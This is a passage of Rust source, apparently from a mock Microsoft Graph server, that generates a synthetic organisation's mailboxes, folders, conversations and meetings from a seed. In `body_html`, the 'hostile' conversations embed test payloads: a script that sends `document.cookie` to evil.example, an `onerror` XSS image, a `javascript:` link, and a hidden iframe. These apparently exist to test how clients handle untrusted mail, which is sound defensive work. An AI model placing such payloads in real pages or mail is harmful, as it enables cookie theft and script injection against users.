//! The mail and calendars of the synthetic organisation, generated lazily.
//!
//! Nothing here is stored. A mailbox's content is a pure function of the seed
//! and the mailbox: it is the set of conversations and meetings started by the
//! people of its team, filtered to the items the mailbox takes part in. Every
//! item has an [`ItemKey`]; mailboxes enumerate their items in key order, which
//! is what page cursors point into. A message sent from one mailbox to a
//! colleague therefore exists in both, with the same `internetMessageId`, and a
//! meeting exists in every attendee's calendar with the same `iCalUId`.

use crate::config::OrgSize;
use crate::org::{Organization, Person, User};
use crate::rng::{Rng, hash};
use crate::tz::Zone;
use chrono::{DateTime, Datelike, Duration, NaiveDate, NaiveDateTime, Utc, Weekday};

/// A mail folder of a mailbox. Well-known folders are resolved by their
/// well-known name; the rest are folders users made.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum FolderKind {
    MsgFolderRoot,
    Inbox,
    SentItems,
    Drafts,
    DeletedItems,
    JunkEmail,
    Outbox,
    Archive,
    ConversationHistory,
    SyncIssues,
    Conflicts,
    LocalFailures,
    ServerFailures,
    /// "Clients", a folder the user made under Inbox.
    Clients,
    /// "Key Accounts", under Clients: two levels deep.
    KeyAccounts,
    /// "Weekly digests", a search folder under Inbox.
    SearchDigests,
    /// A folder made through the admin API, numbered per mailbox.
    Custom(u16),
}

impl FolderKind {
    /// The folders every mailbox starts with, parents before children.
    pub const STANDARD: [FolderKind; 16] = [
        FolderKind::Archive,
        FolderKind::ConversationHistory,
        FolderKind::DeletedItems,
        FolderKind::Drafts,
        FolderKind::Inbox,
        FolderKind::JunkEmail,
        FolderKind::Outbox,
        FolderKind::SentItems,
        FolderKind::SyncIssues,
        FolderKind::Conflicts,
        FolderKind::LocalFailures,
        FolderKind::ServerFailures,
        FolderKind::Clients,
        FolderKind::KeyAccounts,
        FolderKind::SearchDigests,
        FolderKind::MsgFolderRoot,
    ];

    /// The well-known name Graph accepts in place of the id.
    pub fn well_known_name(self) -> Option<&'static str> {
        Some(match self {
            FolderKind::MsgFolderRoot => "msgfolderroot",
            FolderKind::Inbox => "inbox",
            FolderKind::SentItems => "sentitems",
            FolderKind::Drafts => "drafts",
            FolderKind::DeletedItems => "deleteditems",
            FolderKind::JunkEmail => "junkemail",
            FolderKind::Outbox => "outbox",
            FolderKind::Archive => "archive",
            FolderKind::ConversationHistory => "conversationhistory",
            FolderKind::SyncIssues => "syncissues",
            FolderKind::Conflicts => "conflicts",
            FolderKind::LocalFailures => "localfailures",
            FolderKind::ServerFailures => "serverfailures",
            _ => return None,
        })
    }

    /// Resolves a well-known name, case-insensitively.
    pub fn from_well_known(name: &str) -> Option<FolderKind> {
        FolderKind::STANDARD.into_iter().find(|f| f.well_known_name().is_some_and(|w| w.eq_ignore_ascii_case(name)))
    }

    /// The English display name (real tenants localise these; never match on them).
    pub fn display_name(self) -> String {
        match self {
            FolderKind::MsgFolderRoot => "Top of Information Store",
            FolderKind::Inbox => "Inbox",
            FolderKind::SentItems => "Sent Items",
            FolderKind::Drafts => "Drafts",
            FolderKind::DeletedItems => "Deleted Items",
            FolderKind::JunkEmail => "Junk Email",
            FolderKind::Outbox => "Outbox",
            FolderKind::Archive => "Archive",
            FolderKind::ConversationHistory => "Conversation History",
            FolderKind::SyncIssues => "Sync Issues",
            FolderKind::Conflicts => "Conflicts",
            FolderKind::LocalFailures => "Local Failures",
            FolderKind::ServerFailures => "Server Failures",
            FolderKind::Clients => "Clients",
            FolderKind::KeyAccounts => "Key Accounts",
            FolderKind::SearchDigests => "Weekly digests",
            FolderKind::Custom(n) => return format!("Project {n}"),
        }
        .to_string()
    }

    /// The parent folder; `None` for the root.
    pub fn parent(self) -> Option<FolderKind> {
        match self {
            FolderKind::MsgFolderRoot => None,
            FolderKind::Conflicts | FolderKind::LocalFailures | FolderKind::ServerFailures => {
                Some(FolderKind::SyncIssues)
            }
            FolderKind::Clients | FolderKind::SearchDigests => Some(FolderKind::Inbox),
            FolderKind::KeyAccounts => Some(FolderKind::Clients),
            _ => Some(FolderKind::MsgFolderRoot),
        }
    }

    /// A compact code used inside ids and tokens.
    pub fn code(self) -> u16 {
        match self {
            FolderKind::Custom(n) => 100 + n,
            other => FolderKind::STANDARD.iter().position(|f| *f == other).unwrap_or(0) as u16,
        }
    }

    /// The inverse of [`FolderKind::code`].
    pub fn from_code(code: u16) -> Option<FolderKind> {
        if code >= 100 {
            return Some(FolderKind::Custom(code - 100));
        }
        FolderKind::STANDARD.get(code as usize).copied()
    }

    /// Search folders hold no items of their own.
    pub fn is_search_folder(self) -> bool {
        self == FolderKind::SearchDigests
    }
}

/// Where an item comes from: a conversation or meeting started by `owner`, or
/// an item added through the admin API (`source` 2, owned by its mailbox).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, serde::Serialize, serde::Deserialize)]
pub struct ItemKey {
    pub owner: u32,
    pub source: u8,
    pub index: u32,
    pub part: u16,
}

impl ItemKey {
    pub const CONVERSATION: u8 = 0;
    pub const MEETING: u8 = 1;
    pub const ADDED: u8 = 2;

    /// The smallest key, for starting an enumeration.
    pub const MIN: ItemKey = ItemKey { owner: 0, source: 0, index: 0, part: 0 };
}

/// How an internal person is addressed on a message.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum AddressStyle {
    Primary,
    Alias,
    /// The primary address in odd case (`John.Smith@Contoso.COM`).
    MixedCase,
    /// The Exchange legacyExchangeDN (`/o=ExchangeLabs/…`).
    LegacyDn,
}

/// Someone on a message or meeting.
#[derive(Debug, Clone, PartialEq)]
pub enum Party {
    Internal(usize),
    External(Person),
}

/// A name and an address, as Graph's `emailAddress`.
#[derive(Debug, Clone, PartialEq, Eq, serde::Serialize, serde::Deserialize)]
pub struct Address {
    pub name: String,
    pub address: String,
}

/// An eventMessage's meeting part.
#[derive(Debug, Clone, PartialEq)]
pub struct MeetingMessage {
    /// `meetingRequest`, `meetingCancelled`, `meetingAccepted`, `meetingTenativelyAccepted`, `meetingDeclined`.
    pub kind: &'static str,
    pub start: DateTime<Utc>,
    pub end: DateTime<Utc>,
    pub is_all_day: bool,
    pub location: String,
    pub meeting_index: u32,
    pub meeting_owner: u32,
}

/// One message as it sits in one mailbox.
#[derive(Debug, Clone, PartialEq)]
pub struct Message {
    pub key: ItemKey,
    pub mailbox: usize,
    pub folder: FolderKind,
    pub subject: String,
    pub body_html: String,
    pub from: Address,
    pub to: Vec<Address>,
    pub cc: Vec<Address>,
    pub bcc: Vec<Address>,
    pub sent: DateTime<Utc>,
    pub received: DateTime<Utc>,
    pub internet_message_id: String,
    pub conversation_id: String,
    pub is_read: bool,
    pub is_draft: bool,
    pub importance: &'static str,
    /// `normal`, `personal`, `private` or `confidential`: Outlook's
    /// PidTagSensitivity (0–3), served as an extended property on request.
    pub sensitivity: &'static str,
    pub has_attachments: bool,
    pub inference: &'static str,
    pub categories: Vec<String>,
    pub meeting: Option<MeetingMessage>,
    /// Bumped by every change, for `changeKey` and `@odata.etag`.
    pub version: u64,
    /// Served verbatim instead of the rendered message (admin API, to test bad input).
    pub raw: Option<serde_json::Value>,
}

/// A message's sensitivity, the same in every mailbox holding a copy: about
/// 2% private, 1% confidential and 1% personal, the rest normal. Derived
/// from the Message-ID (FNV-1a) so that the random stream, and with it the
/// rest of the organisation, stays as it was.
pub fn sensitivity_of(internet_message_id: &str) -> &'static str {
    let hash = internet_message_id
        .bytes()
        .fold(0xcbf2_9ce4_8422_2325_u64, |h, b| (h ^ u64::from(b)).wrapping_mul(0x0100_0000_01b3));
    match hash % 100 {
        0 | 1 => "private",
        2 => "confidential",
        3 => "personal",
        _ => "normal",
    }
}

/// An attendee of a meeting with their answer.
#[derive(Debug, Clone, PartialEq)]
pub struct Attendee {
    pub address: Address,
    /// `required`, `optional` or `resource`.
    pub kind: &'static str,
    /// `none`, `accepted`, `tentativelyAccepted`, `declined`, `organizer`, `notResponded`.
    pub response: &'static str,
    pub internal: Option<usize>,
}

/// One calendar item (a single meeting or one occurrence) as it sits in one calendar.
#[derive(Debug, Clone, PartialEq)]
pub struct Event {
    pub key: EventKey,
    pub mailbox: usize,
    pub subject: String,
    pub body_html: String,
    pub start: DateTime<Utc>,
    pub end: DateTime<Utc>,
    pub is_all_day: bool,
    /// The zone the organiser created it in (`originalStartTimeZone`).
    pub original_zone: Zone,
    pub location: String,
    pub organizer: Address,
    pub attendees: Vec<Attendee>,
    pub is_organizer: bool,
    /// This mailbox's own answer.
    pub response: &'static str,
    pub sensitivity: &'static str,
    pub show_as: &'static str,
    pub is_cancelled: bool,
    /// `singleInstance`, `occurrence`, `exception` or `seriesMaster`.
    pub kind: &'static str,
    pub ical_uid: String,
    pub join_url: Option<String>,
    pub created: DateTime<Utc>,
    pub modified: DateTime<Utc>,
    pub recurrence: Option<Recurrence>,
    pub version: u64,
}

/// A weekly recurrence, as `patternedRecurrence` describes it.
#[derive(Debug, Clone, PartialEq)]
pub struct Recurrence {
    pub day_of_week: Weekday,
    pub start_date: NaiveDate,
    pub occurrences: u16,
}

/// Identifies one calendar item: a meeting and, for series, the occurrence.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, serde::Serialize, serde::Deserialize)]
pub struct EventKey {
    pub owner: u32,
    pub source: u8,
    pub index: u32,
    /// The occurrence number; [`EventKey::MASTER`] for a series master.
    pub occurrence: u16,
}

impl EventKey {
    pub const MASTER: u16 = u16::MAX;
    pub const MIN: EventKey = EventKey { owner: 0, source: 0, index: 0, occurrence: 0 };
}

// --- conversations -----------------------------------------------------------

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum ConversationKind {
    External,
    Hostile,
    FreeMail,
    Internal,
    Newsletter,
    NoReply,
    Draft,
}

struct MessageSpec {
    from: (Party, AddressStyle),
    to: Vec<(Party, AddressStyle)>,
    cc: Vec<(Party, AddressStyle)>,
    at: DateTime<Utc>,
}

struct Conversation {
    kind: ConversationKind,
    subject: String,
    conversation_id: String,
    messages: Vec<MessageSpec>,
    hostile: bool,
}

const EXTERNAL_SUBJECTS: &[&str] = &[
    "Proposal for the next phase",
    "Renewal quote",
    "Follow-up on our call",
    "Pricing question",
    "Contract redline",
    "Onboarding schedule",
    "Invoice query",
    "Support ticket escalation",
    "Demo feedback",
    "Introduction and next steps",
    "Security questionnaire",
    "Purchase order ✅",
];

const INTERNAL_SUBJECTS: &[&str] = &[
    "Team sync notes",
    "Quarterly forecast",
    "Holiday cover",
    "Draft deck for review",
    "Hiring plan",
    "Budget approval",
];

const SENTENCES: &[&str] = &[
    "Thanks for taking the time to talk this week.",
    "As discussed, I have attached the updated figures.",
    "Could you confirm the delivery dates by Friday?",
    "Our legal team has a few comments on section 4.",
    "Let me know if the proposed timeline works for you.",
    "We would like to expand the rollout to two more sites.",
    "The invoice should reflect the discount we agreed on.",
    "I will loop in my colleague who owns the integration.",
    "Happy to set up a call to go through the details.",
    "Quick reminder that the quote expires at the end of the month.",
];

/// Builds conversation `index` of `owner`. Pure: same inputs, same conversation.
fn conversation(org: &Organization, size: &OrgSize, anchor: DateTime<Utc>, owner: usize, index: u32) -> Conversation {
    let seed = org.seed;
    let mut r = Rng::new(seed, &[0xc0a7, owner as u64, index as u64]);
    let roll = r.below(100);
    let kind = match roll {
        0..=44 => ConversationKind::External,
        45..=51 => ConversationKind::Hostile,
        52..=56 => ConversationKind::FreeMail,
        57..=71 => ConversationKind::Internal,
        72..=83 => ConversationKind::Newsletter,
        84..=95 => ConversationKind::NoReply,
        _ => ConversationKind::Draft,
    };
    let team: Vec<usize> = org.team_of(owner).filter(|&u| u != owner && org.users[u].has_mailbox).collect();
    let colleagues = |r: &mut Rng, max: u64| -> Vec<usize> {
        let n = r.below(max + 1) as usize;
        let mut picked: Vec<usize> = Vec::new();
        for _ in 0..n {
            if team.is_empty() {
                break;
            }
            let c = *r.pick(&team);
            if !picked.contains(&c) {
                picked.push(c);
            }
        }
        picked
    };
    // Conversations are spread over the last ~14 months; some predate a
    // 365-day backfill window on purpose.
    let age = Duration::minutes(r.below(420 * 24 * 60) as i64 + 30);
    let mut at = anchor - age;
    let conversation_id = format!("AAQkAD{}", b64(&hash(seed, &[0xc1d, owner as u64, index as u64]).to_be_bytes()));
    let internal = |u: usize, r: &mut Rng| {
        let style = match r.below(20) {
            0 => AddressStyle::Alias,
            1 => AddressStyle::MixedCase,
            _ => AddressStyle::Primary,
        };
        (Party::Internal(u), style)
    };
    let _ = size;
    let mut messages = Vec::new();
    let subject;
    match kind {
        ConversationKind::External | ConversationKind::Hostile | ConversationKind::FreeMail => {
            let person = if kind == ConversationKind::FreeMail {
                r.pick(&org.free_mail_people).clone()
            } else {
                // Each owner looks after a handful of accounts, so relationships cluster.
                let company = &org.companies[(owner * 3 + r.below(3) as usize) % org.companies.len()];
                r.pick(&company.people).clone()
            };
            subject = r.pick(EXTERNAL_SUBJECTS).to_string();
            let cc = colleagues(&mut r, 2);
            let count = 1 + r.below(5);
            let mut outbound = r.chance(50);
            for _ in 0..count {
                let them = (Party::External(person.clone()), AddressStyle::Primary);
                let cc_parties: Vec<_> = cc.iter().map(|&c| internal(c, &mut r)).collect();
                let spec = if outbound {
                    MessageSpec {
                        from: (Party::Internal(owner), AddressStyle::Primary),
                        to: vec![them],
                        cc: cc_parties,
                        at,
                    }
                } else {
                    MessageSpec { from: them, to: vec![internal(owner, &mut r)], cc: cc_parties, at }
                };
                messages.push(spec);
                outbound = !outbound;
                at += Duration::minutes(20 + r.below(3 * 24 * 60) as i64);
                if at > anchor - Duration::minutes(5) {
                    break;
                }
            }
        }
        ConversationKind::Internal => {
            subject = r.pick(INTERNAL_SUBJECTS).to_string();
            let mut people = colleagues(&mut r, 2);
            if people.is_empty() {
                people = team.first().copied().into_iter().collect();
            }
            let count = 1 + r.below(3);
            let mut sender = owner;
            for t in 0..count {
                let recipients: Vec<_> = std::iter::once(owner)
                    .chain(people.iter().copied())
                    .filter(|&u| u != sender)
                    .map(|u| internal(u, &mut r))
                    .collect();
                if recipients.is_empty() {
                    break;
                }
                // Mail between colleagues is sometimes stamped with the
                // legacyExchangeDN rather than an SMTP address.
                let style = if r.chance(25) { AddressStyle::LegacyDn } else { AddressStyle::Primary };
                messages.push(MessageSpec { from: (Party::Internal(sender), style), to: recipients, cc: vec![], at });
                sender = if t % 2 == 0 && !people.is_empty() { *r.pick(&people) } else { owner };
                at += Duration::minutes(10 + r.below(24 * 60) as i64);
                if at > anchor - Duration::minutes(5) {
                    break;
                }
            }
        }
        ConversationKind::Newsletter | ConversationKind::NoReply => {
            let from = if kind == ConversationKind::Newsletter {
                r.pick(&org.newsletters).clone()
            } else {
                r.pick(&org.no_reply).clone()
            };
            subject = if kind == ConversationKind::Newsletter {
                format!("Your weekly digest #{}", 100 + r.below(400))
            } else {
                format!("Notification: report {} is ready", 1000 + r.below(9000))
            };
            messages.push(MessageSpec {
                from: (Party::External(from), AddressStyle::Primary),
                to: vec![internal(owner, &mut r)],
                cc: vec![],
                at,
            });
        }
        ConversationKind::Draft => {
            let company = &org.companies[(owner * 3) % org.companies.len()];
            let person = r.pick(&company.people).clone();
            subject = format!("Draft: {}", r.pick(EXTERNAL_SUBJECTS));
            messages.push(MessageSpec {
                from: (Party::Internal(owner), AddressStyle::Primary),
                to: vec![(Party::External(person), AddressStyle::Primary)],
                cc: vec![],
                at,
            });
        }
    }
    Conversation { kind, subject, conversation_id, messages, hostile: kind == ConversationKind::Hostile }
}

fn address_of(org: &Organization, party: &(Party, AddressStyle)) -> Address {
    match party {
        (Party::External(p), _) => Address { name: p.name.clone(), address: p.address.clone() },
        (Party::Internal(u), style) => {
            let user = &org.users[*u];
            let address = match style {
                AddressStyle::Primary => user.address().to_string(),
                AddressStyle::Alias => user.smtp_addresses().nth(1).unwrap_or_else(|| user.address()).to_string(),
                AddressStyle::MixedCase => mixed_case(user.address()),
                AddressStyle::LegacyDn => user.legacy_dn.clone(),
            };
            Address { name: user.display_name.clone(), address }
        }
    }
}

fn mixed_case(address: &str) -> String {
    let (local, domain) = address.split_once('@').unwrap_or((address, ""));
    let local: String = local
        .split('.')
        .map(|p| {
            let mut c = p.chars();
            c.next().map(|f| f.to_uppercase().collect::<String>() + c.as_str()).unwrap_or_default()
        })
        .collect::<Vec<_>>()
        .join(".");
    format!("{local}@{}", domain.to_uppercase())
}

fn internet_message_id(org: &Organization, key: &ItemKey, from: &Address) -> String {
    let h = hash(org.seed, &[0x1d, key.owner as u64, key.source as u64, key.index as u64, key.part as u64]);
    let domain = from.address.rsplit_once('@').map(|(_, d)| d.to_ascii_lowercase());
    match domain {
        Some(d) if !org.domains.iter().any(|x| x.name == d) => {
            format!("<{h:016x}.{}@{d}>", key.part)
        }
        // Mail sent from Exchange Online carries a message id from its own servers.
        _ => format!("<{:X}@{:X}.namprd{:02}.prod.outlook.com>", h, h >> 40, h % 20),
    }
}

fn body_html(r: &mut Rng, greeting: &str, sender: &str, hostile: bool) -> String {
    let a = r.pick(SENTENCES);
    let b = r.pick(SENTENCES);
    let hostile_part = if hostile {
        match r.below(4) {
            0 => "<script>document.location='https://evil.example/steal?c='+document.cookie</script>",
            1 => {
                "<img src=\"https://tracker.example.net/open.gif?u=1\" onerror=\"alert('xss')\" width=\"1\" height=\"1\">"
            }
            2 => {
                "<a href=\"javascript:alert(document.domain)\">View the invoice</a><div onclick=\"alert(1)\">Click</div>"
            }
            _ => {
                "<iframe src=\"https://evil.example/frame\"></iframe><style>body{display:none}</style><img src=\"https://cdn.example.com/logo.png\">"
            }
        }
    } else {
        ""
    };
    format!(
        "<html><head>\r\n<meta http-equiv=\"Content-Type\" content=\"text/html; charset=utf-8\"></head><body><p>Hi {greeting},</p><p>{a} {b}</p>{hostile_part}<p>Best regards,<br>{sender}</p></body></html>"
    )
}

/// The messages of conversation `index` started by `owner`, as they sit in `mailbox`.
fn conversation_copies(
    org: &Organization,
    size: &OrgSize,
    anchor: DateTime<Utc>,
    owner: usize,
    index: u32,
    mailbox: usize,
    out: &mut Vec<Message>,
) {
    let conv = conversation(org, size, anchor, owner, index);
    let mut first_subject = true;
    for (t, spec) in conv.messages.iter().enumerate() {
        let key = ItemKey { owner: owner as u32, source: ItemKey::CONVERSATION, index, part: t as u16 };
        let is_sender = matches!(spec.from.0, Party::Internal(u) if u == mailbox);
        let is_recipient = spec.to.iter().chain(&spec.cc).any(|p| matches!(p.0, Party::Internal(u) if u == mailbox));
        let subject = if first_subject { conv.subject.clone() } else { format!("RE: {}", conv.subject) };
        first_subject = false;
        if !is_sender && !is_recipient {
            continue;
        }
        let mut r = Rng::new(org.seed, &[0xf01d, mailbox as u64, key.owner as u64, key.index as u64, key.part as u64]);
        let folder = if conv.kind == ConversationKind::Draft {
            FolderKind::Drafts
        } else if is_sender {
            if r.chance(3) { FolderKind::DeletedItems } else { FolderKind::SentItems }
        } else {
            let external = matches!(conv.kind, ConversationKind::External | ConversationKind::Hostile);
            match r.below(100) {
                0..=9 => FolderKind::Archive,
                10..=17 if external => FolderKind::Clients,
                18..=21 if external => FolderKind::KeyAccounts,
                22..=25 => FolderKind::DeletedItems,
                26..=35 if conv.kind == ConversationKind::Newsletter => FolderKind::JunkEmail,
                _ => FolderKind::Inbox,
            }
        };
        let from = address_of(org, &spec.from);
        let to: Vec<Address> = spec.to.iter().map(|p| address_of(org, p)).collect();
        let cc: Vec<Address> = spec.cc.iter().map(|p| address_of(org, p)).collect();
        let greeting = to.first().map(|a| a.name.split(' ').next().unwrap_or("there").to_string()).unwrap_or_default();
        let received = spec.at + Duration::seconds(2 + r.below(40) as i64);
        let internet_message_id = internet_message_id(org, &key, &from);
        out.push(Message {
            key,
            mailbox,
            folder,
            subject,
            body_html: body_html(&mut r, &greeting, &from.name, conv.hostile),
            sensitivity: sensitivity_of(&internet_message_id),
            internet_message_id,
            from,
            to,
            cc,
            bcc: vec![],
            sent: spec.at,
            received: if is_sender { spec.at } else { received },
            conversation_id: conv.conversation_id.clone(),
            is_read: is_sender || r.chance(80),
            is_draft: conv.kind == ConversationKind::Draft,
            importance: if r.chance(5) { "high" } else { "normal" },
            has_attachments: r.chance(15),
            inference: if matches!(conv.kind, ConversationKind::Newsletter | ConversationKind::NoReply) {
                "other"
            } else {
                "focused"
            },
            categories: vec![],
            meeting: None,
            version: 0,
            raw: None,
        });
    }
}

// --- meetings ----------------------------------------------------------------

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum MeetingKind {
    External,
    Internal,
    Recurring,
    AllDay,
    Private,
    ExternalOrganizer,
    Cancelled,
}

struct MeetingSpec {
    kind: MeetingKind,
    organizer: Party,
    zone: Zone,
    subject: String,
    /// Local wall-clock start of the first (or only) instance.
    local_start: NaiveDateTime,
    minutes: i64,
    all_day_days: i64,
    attendees: Vec<(Party, &'static str, &'static str)>,
    location: String,
    online: bool,
    created: DateTime<Utc>,
    occurrences: u16,
    /// Occurrence moved by a day and an hour (an exception).
    exception: Option<u16>,
    /// Occurrence the organiser cancelled.
    cancelled_occurrence: Option<u16>,
}

const MEETING_SUBJECTS: &[&str] = &[
    "Quarterly business review",
    "Discovery call",
    "Implementation kick-off",
    "Pricing walkthrough",
    "Roadmap preview",
    "Contract signature",
];

fn meeting(org: &Organization, anchor: DateTime<Utc>, owner: usize, index: u32) -> MeetingSpec {
    let mut r = Rng::new(org.seed, &[0x3ee7, owner as u64, index as u64]);
    let kind = match r.below(100) {
        0..=29 => MeetingKind::External,
        30..=44 => MeetingKind::Internal,
        45..=59 => MeetingKind::Recurring,
        60..=67 => MeetingKind::AllDay,
        68..=74 => MeetingKind::Private,
        75..=89 => MeetingKind::ExternalOrganizer,
        _ => MeetingKind::Cancelled,
    };
    let company = &org.companies[(owner * 3 + r.below(3) as usize) % org.companies.len()];
    let contact = r.pick(&company.people).clone();
    let owner_user = &org.users[owner];
    let organizer =
        if kind == MeetingKind::ExternalOrganizer { Party::External(contact.clone()) } else { Party::Internal(owner) };
    let zone_name = if kind == MeetingKind::ExternalOrganizer { company.time_zone } else { owner_user.time_zone };
    let zone = Zone::parse(zone_name).unwrap_or(Zone::UTC);
    // Meetings fall from a year ago to a few months ahead, on working days.
    let day_offset = r.below(540) as i64 - 380;
    let mut date = (anchor + Duration::days(day_offset)).date_naive();
    while matches!(date.weekday(), Weekday::Sat | Weekday::Sun) {
        date += Duration::days(1);
    }
    let hour = 8 + r.below(9) as u32;
    let minute = if r.chance(50) { 0 } else { 30 };
    let local_start = date.and_hms_opt(hour, minute, 0).unwrap_or_default();
    let minutes = *r.pick(&[30i64, 45, 60, 60, 90]);
    let responses_internal = ["accepted", "accepted", "tentativelyAccepted", "none"];
    let responses_external = ["accepted", "accepted", "tentativelyAccepted", "declined", "none"];
    let mut attendees: Vec<(Party, &'static str, &'static str)> = Vec::new();
    let team: Vec<usize> = org.team_of(owner).filter(|&u| u != owner && org.users[u].has_mailbox).collect();
    let colleagues = r.below(3) as usize;
    for _ in 0..colleagues {
        if team.is_empty() {
            break;
        }
        let c = *r.pick(&team);
        if !attendees.iter().any(|(p, _, _)| *p == Party::Internal(c)) {
            attendees.push((Party::Internal(c), "required", *r.pick(&responses_internal)));
        }
    }
    match kind {
        MeetingKind::Internal => {
            if attendees.is_empty()
                && let Some(&c) = team.first()
            {
                attendees.push((Party::Internal(c), "required", "accepted"));
            }
        }
        MeetingKind::ExternalOrganizer => {
            attendees.insert(0, (Party::Internal(owner), "required", *r.pick(&responses_internal)));
            attendees.insert(0, (Party::External(contact.clone()), "required", "organizer"));
        }
        _ => {
            attendees.push((Party::External(contact.clone()), "required", *r.pick(&responses_external)));
            if r.chance(30) {
                let other = r.pick(&company.people).clone();
                if other != contact {
                    attendees.push((Party::External(other), "optional", *r.pick(&responses_external)));
                }
            }
        }
    }
    let subject = match kind {
        MeetingKind::Internal => format!("{} prep", r.pick(INTERNAL_SUBJECTS)),
        MeetingKind::Recurring => format!("Weekly check-in: {}", company.name),
        MeetingKind::AllDay => format!("On site at {}", company.name),
        MeetingKind::Private => "Doctor's appointment".to_string(),
        _ => format!("{} – {}", r.pick(MEETING_SUBJECTS), company.name),
    };
    let occurrences = if kind == MeetingKind::Recurring { 6 + r.below(7) as u16 } else { 1 };
    let created = zone.to_utc(local_start) - Duration::days(3 + r.below(20) as i64);
    MeetingSpec {
        kind,
        organizer,
        zone,
        subject,
        local_start,
        minutes,
        all_day_days: if kind == MeetingKind::AllDay { 1 + r.below(2) as i64 } else { 0 },
        attendees,
        location: if r.chance(40) { "Microsoft Teams Meeting".into() } else { format!("{} office", company.name) },
        online: kind != MeetingKind::AllDay && kind != MeetingKind::Private && r.chance(60),
        created,
        occurrences,
        exception: (kind == MeetingKind::Recurring).then(|| 1 + r.below(occurrences as u64 - 2) as u16),
        cancelled_occurrence: (kind == MeetingKind::Recurring && r.chance(70)).then(|| occurrences - 1),
    }
}

fn ical_uid(org: &Organization, owner: usize, index: u32, date: Option<NaiveDate>) -> String {
    // Outlook's GlobalObjectId: a fixed class id, then the instance date
    // (zero for the series or a single meeting), then a unique tail.
    let instance =
        date.map(|d| format!("{:04X}{:02X}{:02X}", d.year(), d.month(), d.day())).unwrap_or_else(|| "00000000".into());
    let h = hash(org.seed, &[0x1ca1, owner as u64, index as u64]);
    format!("040000008200E00074C5B7101A82E008{instance}{:016X}000000000000000010000000{:016X}", h.rotate_left(17), h)
}

/// The instant range of occurrence `n` of a meeting (DST-correct: the local
/// wall-clock time is kept week to week).
fn occurrence_times(spec: &MeetingSpec, n: u16) -> (DateTime<Utc>, DateTime<Utc>, NaiveDate) {
    let mut local = spec.local_start + Duration::weeks(n as i64);
    if spec.exception == Some(n) {
        local += Duration::days(1) + Duration::hours(1);
    }
    if spec.all_day_days > 0 {
        let day = local.date();
        // All-day events are midnight to midnight in their own zone.
        let start = day.and_hms_opt(0, 0, 0).unwrap_or(local);
        return (spec.zone.to_utc(start), spec.zone.to_utc(start + Duration::days(spec.all_day_days)), day);
    }
    let start = spec.zone.to_utc(local);
    (start, start + Duration::minutes(spec.minutes), local.date())
}

impl MeetingSpec {
    fn takes_part(&self, mailbox: usize) -> Option<&'static str> {
        if self.organizer == Party::Internal(mailbox) {
            return Some("organizer");
        }
        self.attendees.iter().find(|(p, _, _)| *p == Party::Internal(mailbox)).map(|(_, _, response)| *response)
    }
}

fn event_from_spec(
    org: &Organization,
    spec: &MeetingSpec,
    owner: usize,
    index: u32,
    mailbox: usize,
    response: &'static str,
    occurrence: u16,
) -> Option<Event> {
    let is_organizer = response == "organizer";
    let cancelled = spec.kind == MeetingKind::Cancelled || spec.cancelled_occurrence == Some(occurrence);
    // The organiser's copy of a cancelled meeting is gone; attendees keep a
    // "Canceled:" copy until they remove it.
    if cancelled && is_organizer && occurrence != EventKey::MASTER {
        return None;
    }
    let series = spec.occurrences > 1;
    let (start, end, date) = occurrence_times(spec, if occurrence == EventKey::MASTER { 0 } else { occurrence });
    let kind = if !series {
        "singleInstance"
    } else if occurrence == EventKey::MASTER {
        "seriesMaster"
    } else if spec.exception == Some(occurrence) {
        "exception"
    } else {
        "occurrence"
    };
    let organizer = address_of(org, &(spec.organizer.clone(), AddressStyle::Primary));
    let attendees = spec
        .attendees
        .iter()
        .filter(|(p, _, _)| *p != spec.organizer)
        .map(|(p, kind, response)| Attendee {
            address: address_of(org, &(p.clone(), AddressStyle::Primary)),
            kind,
            response,
            internal: match p {
                Party::Internal(u) => Some(*u),
                Party::External(_) => None,
            },
        })
        .collect();
    let mut r = Rng::new(org.seed, &[0xb0d7, owner as u64, index as u64]);
    let subject = if cancelled && occurrence != EventKey::MASTER {
        format!("Canceled: {}", spec.subject)
    } else {
        spec.subject.clone()
    };
    let join_url = spec.online.then(|| {
        format!(
            "https://teams.microsoft.com/l/meetup-join/19%3ameeting_{:016x}%40thread.v2/0?context=%7b%22Tid%22%3a%22{}%22%7d",
            hash(org.seed, &[0x7ea, owner as u64, index as u64]),
            org.tenant_id
        )
    });
    Some(Event {
        key: EventKey { owner: owner as u32, source: ItemKey::MEETING, index, occurrence },
        mailbox,
        subject,
        body_html: body_html(&mut r, "all", &organizer.name, false),
        start,
        end,
        is_all_day: spec.all_day_days > 0,
        original_zone: spec.zone,
        location: if spec.online { "Microsoft Teams Meeting".into() } else { spec.location.clone() },
        organizer,
        attendees,
        is_organizer,
        response: if is_organizer { "organizer" } else { response },
        sensitivity: if spec.kind == MeetingKind::Private { "private" } else { "normal" },
        show_as: match response {
            "tentativelyAccepted" => "tentative",
            _ if spec.all_day_days > 0 => "free",
            _ => "busy",
        },
        is_cancelled: cancelled && occurrence != EventKey::MASTER,
        kind,
        ical_uid: ical_uid(org, owner, index, (series && occurrence != EventKey::MASTER).then_some(date)),
        join_url,
        created: spec.created,
        modified: spec.created + Duration::minutes(5),
        recurrence: (occurrence == EventKey::MASTER).then(|| Recurrence {
            day_of_week: spec.local_start.weekday(),
            start_date: spec.local_start.date(),
            occurrences: spec.occurrences,
        }),
        version: 0,
    })
}

fn meeting_messages(
    org: &Organization,
    anchor: DateTime<Utc>,
    owner: usize,
    index: u32,
    mailbox: usize,
    out: &mut Vec<Message>,
) {
    let spec = meeting(org, anchor, owner, index);
    if spec.kind == MeetingKind::Private {
        return;
    }
    let Some(response) = spec.takes_part(mailbox) else {
        return;
    };
    let (start, end, _) = occurrence_times(&spec, 0);
    let organizer = address_of(org, &(spec.organizer.clone(), AddressStyle::Primary));
    let to: Vec<Address> = spec
        .attendees
        .iter()
        .filter(|(p, _, _)| *p != spec.organizer)
        .map(|(p, _, _)| address_of(org, &(p.clone(), AddressStyle::Primary)))
        .collect();
    let mut push =
        |part: u16, kind: &'static str, from: Address, to: Vec<Address>, subject: String, at: DateTime<Utc>, folder| {
            if at > anchor {
                return;
            }
